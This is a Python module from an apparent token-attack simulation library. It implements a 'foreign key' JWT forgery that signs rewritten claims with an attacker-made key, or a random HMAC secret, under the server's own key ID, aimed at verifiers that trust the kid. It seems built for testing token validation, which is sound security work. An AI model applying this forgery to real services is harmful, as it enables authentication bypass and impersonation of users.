"""Foreign key: a forged token signed with the attacker's own key under the ``kid`` of the server's."""

from dataclasses import replace
from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import ForgedClaims, forge_claims, is_key_pair_algorithm
from simlib.scenario.effects import Context, Flow
from simlib.tokens import generate_signing_key
from simlib.tokens.forging import sign_claims, sign_with_hmac


def sign_with_foreign_key(ctx: Context, forged: ForgedClaims, **header: object) -> str:
    """Sign claims under the known ``kid`` with another key of the same algorithm."""
    if not is_key_pair_algorithm(forged.algorithm):
        return forged.seal(sign_with_hmac(forged.claims, forged.kid, ctx.random_bytes("foreign_key", 32), forged.typ))
    key = replace(generate_signing_key(forged.algorithm, "attacker"), kid=forged.kid)
    return forged.seal(sign_claims(forged.claims, key, typ=forged.typ, **header))


class ForeignKey(TokenAttack):
    """Succeeds where the ``kid`` is accepted as proof of the key."""

    name: ClassVar[str] = "foreign_key"
    summary: ClassVar[str] = "forged claims signed with another key under the kid of the server's"
    source: ClassVar[str] = "RFC 7515 section 4.1.4, RFC 8725 section 3.3; CVE-2026-49998"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims and sign them."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        return (Candidate("known kid, foreign signature", sign_with_foreign_key(ctx, forged)),)
